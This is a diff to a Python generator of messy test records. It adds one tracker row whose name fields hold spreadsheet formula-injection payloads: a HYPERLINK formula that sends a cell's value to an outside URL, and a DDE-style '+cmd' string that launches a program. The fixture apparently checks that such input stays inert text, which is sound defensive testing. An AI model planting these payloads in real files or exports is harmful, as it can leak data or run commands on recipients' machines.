@@ -95,6 +95,18 @@ def generate(seed: int = 7, cases: int = 300, legacy: int = 60) -> MessyFiles:
     files = MessyFiles()
     for n in range(cases):
         _tracker_row(files, rng, f"TR-{n:04d}")
+    if cases:
+        # Someone typed formulas into a form: they must stay text, and round-trip.
+        files.tracker.append(
+            {
+                "reference": "XSS-1",
+                "enquiry_date": "2024-02-02",
+                "first_name": '=HYPERLINK("https://example.net/?"&B2,"Open")',
+                "last_name": "+cmd|' /C calc'!A0",
+                "phone": "-",
+                "source": "other",
+            }
+        )
     for n in range(legacy):
         approved = date(2011, 4, 1) + timedelta(days=rng.randint(0, 7 * 365))
         _household(files, rng, f"LEG-{n:03d}", approved, rng.choice(CARER_TYPES))
